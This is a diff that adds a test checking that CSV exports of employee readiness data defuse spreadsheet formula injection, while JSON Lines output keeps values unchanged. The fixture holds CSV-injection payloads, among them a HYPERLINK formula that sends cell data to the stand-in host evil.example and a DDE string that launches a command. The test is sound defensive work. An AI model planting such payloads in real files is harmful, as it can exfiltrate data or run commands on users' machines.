@@ -338,3 +338,49 @@ async def test_assessment_times_read_as_parts_are_the_drivers_own(db: Database) 
         assert got == native
         assert got is not None and got.isoformat() == native.isoformat()
     assert instant([None, None, None]) is None
+
+
+FORMULAS = {
+    "person": '=HYPERLINK("http://evil.example/?d="&A1,"Click")',
+    "title": "+cmd|' /C calc'!A0",
+    "unit": "-2+3",
+    "by": "@SUM(1+1)",
+    "tab": "\tlooks empty",
+    "cr": "\rhidden",
+}
+
+
+async def test_csv_never_holds_a_spreadsheet_formula(
+    db: Database, api: ApiClient, tmp_path: Path
+) -> None:
+    """Text starting with =, +, -, @, tab or CR is written with a leading apostrophe in CSV (the
+    file and the HTTP download), and as it is in JSON Lines and Parquet."""
+    await (
+        Org()
+        .unit("u", name=FORMULAS["unit"])
+        .skill("s")
+        .role("R", "u", {"s": (2, 1)}, critical=True, title=FORMULAS["title"])
+        .employee("p", skills={"s": 2}, name=FORMULAS["person"])
+        .employee("q", skills={"s": 1})
+        .employee("c", skills={"s": 1})
+        .assess("p", "R", "READY_NOW", by=FORMULAS["by"])
+        .save(db)
+    )
+    # imports trim and refuse control characters; another tool may still write them
+    async with db.driver.session(database=db.database) as session:
+        for person, name in (("q", FORMULAS["tab"]), ("c", FORMULAS["cr"])):
+            await session.run(
+                "MATCH (e:Employee {id: $id}) SET e.name = $name", id=person, name=name
+            )
+    path, _ = await _export(db, tmp_path, ExportFormat.CSV)
+    downloaded = api.http.get("/exports/readiness", params={"format": "csv"}).text
+    for text in (path.read_bytes().decode("utf-8"), downloaded):
+        cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+        assert not [c for c in cells if c.startswith(("=", "+", "@", "\t", "\r"))]
+        assert not [c for c in cells if c.startswith("-") and not c.lstrip("-")[:1].isdigit()]
+        for value in FORMULAS.values():
+            assert "'" + value in cells, value
+    jsonl, _ = await _export(db, tmp_path, ExportFormat.JSONL)
+    rows = read_back(jsonl, ExportFormat.JSONL)
+    assert {r["person_name"] for r in rows} >= {FORMULAS["person"], FORMULAS["tab"]}
+    assert {r["role_title"] for r in rows} == {FORMULAS["title"]}
